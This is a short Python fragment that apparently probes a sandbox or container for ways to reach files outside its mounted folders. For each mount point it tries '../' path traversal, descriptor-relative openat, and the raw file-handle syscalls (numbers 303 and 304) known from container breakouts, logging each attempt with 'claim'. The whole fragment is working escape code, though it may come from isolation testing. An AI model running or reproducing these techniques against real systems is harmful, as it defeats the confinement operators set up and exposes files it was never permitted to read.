# Leave a mounted folder by its parent, by a descriptor, or by the file system's own handles.
for start in ("/netwright/inside", "/netwright/handlers", "/netwright/site0", "/netwright/python", "/scratch"):
    if not os.path.isdir(start):
        continue
    for depth in range(1, 12):
        path = start + "/.." * depth + payload["path"]
        claim(path, lambda: text_of(path))
    folder = os.open(start, os.O_RDONLY)
    claim(f"openat {start}", lambda: os.open("../" * 12 + payload["path"].lstrip("/"), os.O_RDONLY, dir_fd=folder))
    handle = ctypes.create_string_buffer(128)
    ctypes.c_uint.from_buffer(handle).value = 120
    mount = ctypes.c_int()
    claim(f"handle {start}", lambda: call(303, folder, b"", handle, ctypes.byref(mount), 0x1000))
    claim(f"by handle {start}", lambda: call(304, folder, handle, 0))
